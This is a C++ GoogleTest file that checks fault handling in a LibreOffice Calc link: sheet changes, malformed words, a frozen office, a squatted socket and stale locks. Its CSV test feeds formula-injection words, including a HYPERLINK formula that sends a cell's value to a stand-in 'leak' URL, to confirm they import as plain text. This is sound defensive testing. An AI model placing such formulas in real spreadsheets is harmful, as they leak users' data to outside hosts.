// Faults of the office and bad input, against a real headless LibreOffice:
// nothing is written where it should not be, no word breaks the link, a
// frozen office leaves the caller free, and no other user's pipe is used.
#include <chrono>
#include <cstdlib>
#include <deque>
#include <filesystem>
#include <fstream>
#include <mutex>
#include <string>

#include <gtest/gtest.h>
#include <poll.h>
#include <pwd.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "journal/csv.h"
#include "link/link_thread.h"
#include "link/spreadsheet/calc/stale_lock.h"
#include "link/spreadsheet/calc/uno_connection.h"
#include "link/workbook_link.h"
#include "tests/support/entry_steps.h"
#include "tests/support/test_office.h"

namespace {

using css::table::CellContentType_EMPTY;
using wordpour::link::Entry;
using wordpour::link::EntryRefusal;
using wordpour::link::EntryResult;
using wordpour::link::LinkThread;
using wordpour::link::StartupError;
using wordpour::link::WorkbookLink;
using wordpour::link::spreadsheet::Failure;
using wordpour::link::spreadsheet::calc::attachRunning;
using wordpour::testing::enterWord;
using wordpour::testing::failureOf;
using wordpour::testing::MemoryBox;
using wordpour::testing::said;
using wordpour::testing::TempDir;
using wordpour::testing::TestOffice;
using wordpour::testing::u16;
using wordpour::testing::utf8;

std::string pipeFor(const char* role) {
    return std::string("wordpour-faults-") + role + "-" + std::to_string(getpid());
}

class Office : public ::testing::Environment {
public:
    static TestOffice* office;
    static TempDir* dir;
    void SetUp() override {
        office = new TestOffice(pipeFor("main"));
        dir = new TempDir();
    }
    void TearDown() override {
        delete office;
        delete dir;
    }
};
TestOffice* Office::office = nullptr;
TempDir* Office::dir = nullptr;
const auto* const kOffice = ::testing::AddGlobalTestEnvironment(new Office);

class CalcFaults : public ::testing::Test {
protected:
    void SetUp() override {
        setenv("WORDPOUR_PIPE", office().pipe().c_str(), 1);
        office().closeAll();
    }
    static TestOffice& office() { return *Office::office; }

    // A workbook with three sheets, the user's words in sheet0 A2–A5.
    std::string threeSheets(const char* name) {
        const std::string path = Office::dir->path() + "/" + name;
        office().createWorkbook(path, {u"sheet0", u"sheet1", u"sheet2"});
        office().openHidden(path);
        for (int row = 2; row <= 5; ++row)
            office().setCell(path, u"sheet0", u"A" + u16(std::to_string(row)), u"ユーザーの単語");
        return path;
    }

    // Every cell A1–C10 of a sheet, as text.
    std::vector<std::string> cellsOf(const std::string& path, std::u16string_view sheet) {
        std::vector<std::string> cells;
        for (char16_t column : {u'A', u'B', u'C'})
            for (int row = 1; row <= 10; ++row)
                cells.push_back(utf8(
                    office()
                        .cell(path, sheet, std::u16string(1, column) + u16(std::to_string(row)))
                        .text));
        return cells;
    }
};

TEST_F(CalcFaults, EntriesFollowTheirSheetWhateverItsNameAndNeverLandOnAnotherOnceItIsGone) {
    struct Case {
        const char* what;
        void (*change)(TestOffice&, const std::string&);
        const char16_t* nameAfter;  // sheet1's name now; none: it is gone
    };
    const Case cases[] = {
        {"sheet1 deleted", [](TestOffice& o, const std::string& p) { o.removeSheet(p, u"sheet1"); },
         nullptr},
        {"sheet1 renamed",
         [](TestOffice& o, const std::string& p) { o.renameSheet(p, u"sheet1", u"名前変更"); },
         u"名前変更"},
        {"sheet1 renamed in another case",
         [](TestOffice& o, const std::string& p) { o.renameSheet(p, u"sheet1", u"Sheet1"); },
         u"Sheet1"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.what);
        office().closeAll();
        const std::string path = threeSheets("three.xls");
        MemoryBox box;
        WorkbookLink link(wordpour::testing::programBackend());
        ASSERT_FALSE(link.start(u16(path), box.text()));
        ASSERT_EQ(enterWord(link, box, u"一語目"), std::nullopt);
        ASSERT_EQ(utf8(office().cell(path, u"sheet1", u"A2").text), "一語目");

        const auto sheet0 = cellsOf(path, u"sheet0");
        const auto sheet2 = cellsOf(path, u"sheet2");
        c.change(office(), path);
        for (const char16_t* word : {u"二語目", u"三語目"}) {
            const auto says = enterWord(link, box, word);
            if (c.nameAfter) {
                EXPECT_EQ(says, std::nullopt) << said(says);
            } else {
                EXPECT_EQ(failureOf(says), Failure::SheetGone) << said(says);
                EXPECT_EQ(utf8(box.text()), "A2");
            }
        }
        if (c.nameAfter) {
            EXPECT_EQ(utf8(office().cell(path, c.nameAfter, u"A4").text), "三語目");
            EXPECT_EQ(utf8(box.text()), "A4");
        }
        EXPECT_EQ(cellsOf(path, u"sheet0"), sheet0);
        EXPECT_EQ(cellsOf(path, u"sheet2"), sheet2);
    }
}

TEST_F(CalcFaults, AClosedOrReopenedWorkbookIsReportedAsClosedNotAsAWrongName) {
    const std::string path = threeSheets("closed.xls");
    MemoryBox box;
    WorkbookLink link(wordpour::testing::programBackend());
    ASSERT_FALSE(link.start(u16(path), box.text()));
    ASSERT_EQ(enterWord(link, box, u"前"), std::nullopt);
    // Closed, then opened again, as a reload does: the entry writes into
    // neither the old document nor the new one.
    office().close(path);
    office().openHidden(path);
    const auto says = enterWord(link, box, u"後");
    EXPECT_EQ(failureOf(says), Failure::Disconnected) << said(says);
    EXPECT_EQ(utf8(box.text()), "A2");
    EXPECT_EQ(office().cell(path, u"sheet1", u"A3").type, CellContentType_EMPTY);
}

TEST_F(CalcFaults, WordsACellCannotHoldAreRefusedAndNoWordBreaksTheLink) {
    const std::string path = threeSheets("words.xls");
    MemoryBox box;
    WorkbookLink link(wordpour::testing::programBackend());
    ASSERT_FALSE(link.start(u16(path), box.text()));
    struct Case {
        const char* what;
        std::u16string word;
        std::optional<EntryRefusal> refusal;  // none: written whole
    };
    using Kind = EntryRefusal::Kind;
    const Case cases[] = {
        {"half an emoji at the end", u"絵文字\xD83D", EntryRefusal{Kind::BrokenWord, 3}},
        {"a lone low surrogate", u"a\xDE00", EntryRefusal{Kind::BrokenWord, 1}},
        {"a reversed pair", u"\xDE00\xD83D", EntryRefusal{Kind::BrokenWord, 0}},
        {"one character over the limit", std::u16string(32768, u'長'),
         EntryRefusal{Kind::WordTooLong, 32768}},
        {"100,000 characters", std::u16string(100000, u'x'),
         EntryRefusal{Kind::WordTooLong, 100000}},
        {"exactly the limit", std::u16string(32767, u'満'), std::nullopt},
        {"a whole emoji", u"絵文字😀", std::nullopt},
        {"a NUL inside", std::u16string(u"a\0b", 3), std::nullopt},
        {"noncharacters", u"\uFFFE\uFFFF", std::nullopt},
        {"control and direction marks", u"\x01\x1F\u202E逆", std::nullopt},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.what);
        const std::u16string before = box.text();
        const auto says = enterWord(link, box, c.word);
        if (c.refusal) {
            const auto* refused = says ? std::get_if<EntryRefusal>(&*says) : nullptr;
            ASSERT_NE(refused, nullptr) << said(says);
            EXPECT_EQ(refused->kind, c.refusal->kind);
            EXPECT_EQ(refused->at, c.refusal->at);
            EXPECT_EQ(box.text(), before);
        } else {
            ASSERT_EQ(says, std::nullopt) << said(says);
            const auto cell = office().cell(path, u"sheet1", box.text());
            EXPECT_TRUE(cell.text == c.word) << cell.text.size() << " characters";
        }
    }
    // After every word, the link still writes.
    EXPECT_EQ(enterWord(link, box, u"最後"), std::nullopt);
    EXPECT_EQ(utf8(office().cell(path, u"sheet1", box.text()).text), "最後");
}

// A stand-in for the window's thread: the completions posted to it.
class PostedTasks {
public:
    LinkThread::Post post() {
        return [this](LinkThread::Task task) {
            std::lock_guard lock(mutex_);
            tasks_.push_back(std::move(task));
        };
    }
    // Runs what has been posted until `until` holds or the time is up.
    bool runUntil(const std::function<bool()>& until, std::chrono::milliseconds limit) {
        const auto deadline = std::chrono::steady_clock::now() + limit;
        while (!until()) {
            if (std::chrono::steady_clock::now() > deadline) return false;
            std::deque<LinkThread::Task> now;
            {
                std::lock_guard lock(mutex_);
                now.swap(tasks_);
            }
            for (auto& task : now) task();
            usleep(10000);
        }
        return true;
    }

private:
    std::mutex mutex_;
    std::deque<LinkThread::Task> tasks_;
};

TEST(CalcFrozenOffice, TheCallerStaysFreeAndTheWordLandsOnceWhenTheOfficeThaws) {
    TestOffice frozen(pipeFor("frozen"));
    TempDir dir;
    const std::string path = dir.path() + "/frozen.xls";
    frozen.createWorkbook(path, {u"Sheet1"});
    setenv("WORDPOUR_PIPE", frozen.pipe().c_str(), 1);

    MemoryBox box;
    WorkbookLink link(wordpour::testing::programBackend());
    PostedTasks window;
    LinkThread thread(window.post());
    std::optional<wordpour::link::StartupError> failed;
    thread.runAndWait([&] { failed = link.start(u16(path), box.text()); });
    ASSERT_FALSE(failed);

    auto prepared = WorkbookLink::prepareEntry(box.text(), u"凍結中の単語");
    const Entry entry = std::get<Entry>(prepared);
    EntryResult result;
    bool done = false;
    frozen.stop();
    thread.run([&] { result = link.write(entry); },
               [&] {
                   if (result.written) box.setText(entry.cell);
                   done = true;
               });
    // The caller goes on: the entry is outstanding, not answered.
    EXPECT_FALSE(window.runUntil([&] { return done; }, std::chrono::milliseconds(1500)));
    EXPECT_TRUE(thread.busy());
    EXPECT_EQ(utf8(box.text()), "A1");

    frozen.resume();
    ASSERT_TRUE(window.runUntil([&] { return done; }, std::chrono::seconds(60)));
    EXPECT_FALSE(thread.busy());
    EXPECT_TRUE(result.written);
    EXPECT_FALSE(result.failure.has_value());
    EXPECT_EQ(utf8(box.text()), "A2");
    thread.runAndWait([&] {
        EXPECT_EQ(utf8(frozen.cell(path, u"Sheet1", u"A2").text), "凍結中の単語");
        EXPECT_EQ(frozen.cell(path, u"Sheet1", u"A3").type, CellContentType_EMPTY);
    });
}

TEST_F(CalcFaults, AnUntitledCopyOfTheFileIsAStartUpErrorNamingTheFile) {
    // An ODF template, whatever its name, opens as an untitled document,
    // as "Open Copy" does for a workbook in use.
    const std::string path = Office::dir->path() + "/template.xls";
    office().createWorkbook(path, {u"sheet1"}, "calc8_template");
    MemoryBox box;
    WorkbookLink link(wordpour::testing::programBackend());
    if (const auto failed = link.start(u16(path), box.text()); !failed) {
        ADD_FAILURE() << "started on an untitled copy";
    } else {
        EXPECT_EQ(failureOf(*failed), Failure::NotTheFile) << said(*failed);
        EXPECT_EQ(utf8(failed->book), path);
    }
    // The untitled document it loaded is closed again.
    EXPECT_EQ(office().documentCount(), 0);
}

TEST(CalcForeignPipe, APipeAnotherUserListensOnIsNeverConnectedTo) {
    if (geteuid() != 0) GTEST_SKIP() << "listening as user nobody needs root (CI runs as root)";
    const std::string pipe = pipeFor("foreign");
    const std::string socketPath = wordpour::link::spreadsheet::calc::pipeSocketPath(u16(pipe));
    int status[2];
    ASSERT_EQ(::pipe(status), 0);
    const pid_t listener = fork();
    ASSERT_GE(listener, 0);
    if (listener == 0) {
        // Another local user, listening first where the office would.
        if (setgid(65534) != 0 || setuid(65534) != 0) _exit(1);
        const int s = socket(AF_UNIX, SOCK_STREAM, 0);
        sockaddr_un address{};
        address.sun_family = AF_UNIX;
        socketPath.copy(address.sun_path, sizeof address.sun_path - 1);
        if (bind(s, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 || listen(s, 4))
            _exit(2);
        (void)!write(status[1], "L", 1);
        for (;;) {
            if (accept(s, nullptr, nullptr) >= 0) (void)!write(status[1], "C", 1);
        }
    }
    char ready = 0;
    ASSERT_EQ(read(status[0], &ready, 1), 1);
    ASSERT_EQ(ready, 'L');

    setenv("WORDPOUR_PIPE", pipe.c_str(), 1);
    TempDir dir;
    const std::string path = dir.path() + "/book.xls";
    std::ofstream(path) << "stand-in";
    MemoryBox box;
    WorkbookLink link(wordpour::testing::programBackend());
    if (const auto failed = link.start(u16(path), box.text()); !failed) {
        ADD_FAILURE() << "connected to another user's pipe";
    } else {
        EXPECT_EQ(failureOf(*failed), Failure::ForeignPipe) << said(*failed);
        EXPECT_EQ(utf8(failed->cause->subject()), socketPath);
        EXPECT_EQ(failed->cause->number(), 65534);  // the owner, named to the person
    }
    pollfd connected{status[0], POLLIN, 0};
    EXPECT_EQ(poll(&connected, 1, 300), 0) << "the other user's socket was connected to";

    kill(listener, SIGKILL);
    waitpid(listener, nullptr, 0);
    unlink(socketPath.c_str());
    close(status[0]);
    close(status[1]);
}

// Only a lock this office's profile wrote for this user on this computer is
// dropped: anyone else's may be a document open elsewhere.
TEST(CalcStaleLock, OnlyThisOfficesOwnLockIsDropped) {
    TempDir dir;
    char host[256] = {};
    gethostname(host, sizeof host - 1);
    const std::string me = getpwuid(geteuid())->pw_name;
    const std::string profile = "file:///home/u/.config/libreoffice/4";
    struct Case {
        const char* what;
        std::string lock;
        bool dropped;
    };
    const Case cases[] = {
        {"its own", "," + me + "," + host + ",08.12.2026 19:06," + profile + ";", true},
        {"another user's", ",someone," + std::string(host) + ",08.12.2026 19:06," + profile + ";",
         false},
        {"another computer's", "," + me + ",otherhost,08.12.2026 19:06," + profile + ";", false},
        {"another profile's", "," + me + "," + host + ",08.12.2026 19:06,file:///tmp/p;", false},
        {"cut short", "," + me + "," + host, false},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.what);
        const std::string lock = dir.path() + "/.~lock.book.xls#";
        std::ofstream(lock) << c.lock;
        EXPECT_EQ(
            wordpour::link::spreadsheet::calc::dropOwnStaleLock(dir.path() + "/book.xls", profile),
            c.dropped);
        EXPECT_EQ(std::filesystem::exists(lock), !c.dropped);
        std::filesystem::remove(lock);
    }
}

// The journal's CSV file opens in Calc with its Japanese and its quoted
// commas as written, and words that look like formulas as text. Calc's
// text import dialog takes UTF-8 from the byte-order mark; headless there
// is no dialog, so its choice is given.
TEST(CalcJournalCsv, TheCsvOpensInCalcWithTheRightCharacters) {
    TestOffice office(pipeFor("csv"));
    TempDir dir;
    const std::string path = dir.path() + "/record.csv";
    std::vector<wordpour::journal::Record> records = {
        {wordpour::journal::Record::Kind::Entry,
         1'796'000'000'000,
         u"/家/在庫 表.xls",
         u"sheet1",
         u"A2",
         u"東京都, \"港区\"",
         {}},
    };
    const std::u16string formulas[] = {
        u"=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")",
        u"+1+2",
        u"-3+4",
        u"@SUM(1,2)",
        u"\t=1+1",
        u"\r=1+1"};
    for (const auto& word : formulas) {
        records.push_back(records[0]);
        records.back().word = word;
    }
    std::ofstream(path, std::ios::binary) << wordpour::journal::toCsv(records);
    office.openUtf8Csv(path);
    for (std::size_t i = 0; i < std::size(formulas); ++i) {
        const std::string cell = "E" + std::to_string(i + 3);
        SCOPED_TRACE(cell);
        const auto read = office.cell(path, u"record", std::u16string(cell.begin(), cell.end()));
        EXPECT_EQ(read.type, css::table::CellContentType_TEXT);
        EXPECT_NE(read.text.find(formulas[i].substr(1)), std::u16string::npos);
    }
    EXPECT_EQ(utf8(office.cell(path, u"record", u"B1").text), "ブック");
    EXPECT_EQ(utf8(office.cell(path, u"record", u"B2").text), "/家/在庫 表.xls");
    EXPECT_EQ(utf8(office.cell(path, u"record", u"E2").text), "東京都, \"港区\"");
    EXPECT_EQ(utf8(office.cell(path, u"record", u"F2").text), "入力");
}

}  // namespace
